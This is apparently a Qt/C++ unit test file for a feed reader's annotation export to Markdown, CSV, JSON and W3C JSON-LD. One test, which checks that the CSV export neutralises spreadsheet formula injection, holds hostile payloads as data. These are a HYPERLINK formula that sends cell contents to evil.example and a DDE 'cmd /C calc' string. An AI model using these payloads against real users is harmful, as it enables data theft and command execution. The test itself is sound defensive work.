// SPDX-FileCopyrightText: 2026 The Folio authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "TestSupport.h"

#include "export/AnnotationExport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace folio;

class TestAnnotationExport : public QObject
{
    Q_OBJECT

private:
    // Two articles: one with an article note, a highlight with a note (with a comma, quotes and
    // a line break, for CSV) and a detached highlight; one bookmarked without annotations.
    static QList<AnnotatedArticle> sample()
    {
        AnnotatedArticle a;
        a.id = 7;
        a.title = u"Xi Jinping bezoekt Kazachstan"_s;
        a.link = u"https://example.org/xi-kazachstan"_s;
        a.source = u"Centraal-Azië"_s;
        a.published = 1717228800; // 2024-06-01T08:00:00Z
        a.tags = {u"Centraal-Azië"_s, u"China"_s};
        Annotation note;
        note.id = 3;
        note.articleId = 7;
        note.note = u"Compare with the 2023 summit."_s;
        note.color = u"yellow"_s;
        note.created = 1717232400; // 2024-06-01T09:00:00Z
        note.updated = note.created;
        Annotation h;
        h.id = 1;
        h.articleId = 7;
        h.quote = u"driedaags bezoek aan Astana"_s;
        h.prefix = u"Xi Jinping heeft zijn "_s;
        h.suffix = u" afgesloten"_s;
        h.start = 22;
        h.end = 49;
        h.note = u"Three days, \"state visit\",\nsee also Dushanbe"_s;
        h.color = u"green"_s;
        h.created = 1717236000; // 2024-06-01T10:00:00Z
        h.updated = 1717239600;
        Annotation d;
        d.id = 2;
        d.articleId = 7;
        d.quote = u"eeuwige goede nabuurschap"_s;
        d.prefix = u"verdrag inzake "_s;
        d.suffix = u", vriendschap"_s;
        d.start = 120;
        d.end = 145;
        d.color = u"pink"_s;
        d.created = 1717236060;
        d.updated = 1717236060;
        d.detached = true;
        a.annotations = {note, h, d};
        AnnotatedArticle b;
        b.id = 9;
        b.title = u"Bookmarked only"_s;
        b.source = u"Feed"_s;
        b.bookmarked = true;
        return {a, b};
    }

    static void compareWithFile(const QByteArray& actual, const QString& file)
    {
        const QByteArray expected = test::readData(u"export/"_s + file);
        if (actual != expected) {
            qWarning("actual output:\n%s", actual.constData());
        }
        QCOMPARE(QString::fromUtf8(actual), QString::fromUtf8(expected));
    }

private Q_SLOTS:
    void markdown() { compareWithFile(annotationexport::toMarkdown(sample()), u"annotations.md"_s); }

    void csv() { compareWithFile(annotationexport::toCsv(sample()), u"annotations.csv"_s); }

    void csvQuotesAFieldWhoseOnlySpecialCharacterIsANewline()
    {
        AnnotatedArticle article;
        article.id = 5;
        article.title = u"Line one\nline two"_s;
        Annotation h;
        h.articleId = 5;
        h.quote = u"first\nsecond"_s;
        h.color = u"blue"_s;
        article.annotations = {h};
        const QString csv = QString::fromUtf8(annotationexport::toCsv({article}));
        QVERIFY2(csv.contains(u",\"Line one\nline two\","_s), qPrintable(csv));
        QVERIFY2(csv.contains(u",\"first\nsecond\","_s), qPrintable(csv));
        // Each record still ends with CRLF, so the quoted line break stays inside its field.
        QCOMPARE(csv.count(u"\r\n"_s), 2);
    }

    void json()
    {
        const QByteArray out = annotationexport::toJson(sample());
        compareWithFile(out, u"annotations.json"_s);
        const QJsonArray array = QJsonDocument::fromJson(out).array();
        QCOMPARE(array.size(), 2);
        QCOMPARE(array.at(0).toObject().value(u"annotations"_s).toArray().size(), 3);
        QVERIFY(array.at(1).toObject().value(u"link"_s).isNull());
    }

    void w3cJsonLd()
    {
        const QByteArray out = annotationexport::toW3c(sample());
        compareWithFile(out, u"annotations.jsonld"_s);
        const QJsonArray array = QJsonDocument::fromJson(out).array();
        QCOMPARE(array.size(), 3); // one per annotation; bookmarks have none
        for (const QJsonValue& v : array) {
            const QJsonObject o = v.toObject();
            QCOMPARE(o.value(u"@context"_s).toString(), u"http://www.w3.org/ns/anno.jsonld"_s);
            QCOMPARE(o.value(u"type"_s).toString(), u"Annotation"_s);
            QCOMPARE(o.value(u"target"_s).toObject().value(u"source"_s).toString(), u"https://example.org/xi-kazachstan"_s);
        }
        const QJsonObject highlight = array.at(1).toObject();
        QCOMPARE(highlight.value(u"body"_s).toArray().at(0).toObject().value(u"type"_s).toString(), u"TextualBody"_s);
        QCOMPARE(highlight.value(u"body"_s).toArray().at(0).toObject().value(u"value"_s).toString(),
                 u"Three days, \"state visit\",\nsee also Dushanbe"_s);
        const QJsonArray selectors = highlight.value(u"target"_s).toObject().value(u"selector"_s).toArray();
        QCOMPARE(selectors.size(), 2);
        QCOMPARE(selectors.at(0).toObject().value(u"type"_s).toString(), u"TextQuoteSelector"_s);
        QCOMPARE(selectors.at(0).toObject().value(u"exact"_s).toString(), u"driedaags bezoek aan Astana"_s);
        QCOMPARE(selectors.at(0).toObject().value(u"prefix"_s).toString(), u"Xi Jinping heeft zijn "_s);
        QCOMPARE(selectors.at(1).toObject().value(u"type"_s).toString(), u"TextPositionSelector"_s);
        QCOMPARE(selectors.at(1).toObject().value(u"start"_s).toInt(), 22);
        QCOMPARE(selectors.at(1).toObject().value(u"end"_s).toInt(), 49);
        // A detached highlight has no position any more, only its quote.
        QCOMPARE(array.at(2).toObject().value(u"target"_s).toObject().value(u"selector"_s).toArray().size(), 1);
        // An article without a link is named by URN.
        AnnotatedArticle noLink = sample().first();
        noLink.link.clear();
        const QJsonArray urn = QJsonDocument::fromJson(annotationexport::toW3c({noLink})).array();
        QCOMPARE(urn.at(0).toObject().value(u"target"_s).toObject().value(u"source"_s).toString(), u"urn:folio:article:7"_s);
    }

    // Feed-controlled titles and links, and the reader's own notes, must never run as a
    // spreadsheet formula (OWASP CSV injection): a leading ' and quoting for = + - @ tab CR.
    void csvNeutralisesFormulas()
    {
        AnnotatedArticle a;
        a.id = 5;
        a.title = u"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"_s;
        a.link = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
        a.published = 1717228800;
        Annotation plus;
        plus.articleId = 5;
        plus.quote = u"+31 20 555"_s;
        plus.note = u"-2+3"_s;
        plus.color = u"\tyellow"_s;
        plus.created = 1717232400;
        Annotation cr;
        cr.articleId = 5;
        cr.quote = u"\r=1+1"_s;
        cr.note = u"\uFF1D1+1"_s; // full-width equals sign
        cr.color = u"green"_s;
        cr.created = 1717232400;
        Annotation harmless;
        harmless.articleId = 5;
        harmless.quote = u"a = b"_s; // formula characters later in the cell are fine
        harmless.note = u"x-ray"_s;
        harmless.color = u"pink"_s;
        harmless.created = 1717232400;
        a.annotations = {plus, cr, harmless};
        compareWithFile(annotationexport::toCsv({a}), u"annotations-injection.csv"_s);
    }

    void formatNames()
    {
        QCOMPARE(annotationexport::formatFromName(u"markdown"_s), annotationexport::Format::Markdown);
        QCOMPARE(annotationexport::formatFromName(u"CSV"_s), annotationexport::Format::Csv);
        QCOMPARE(annotationexport::formatFromName(u"w3c"_s), annotationexport::Format::W3c);
        QVERIFY(!annotationexport::formatFromName(u"docx"_s));
    }
};

QTEST_GUILESS_MAIN(TestAnnotationExport)
#include "TestAnnotationExport.moc"
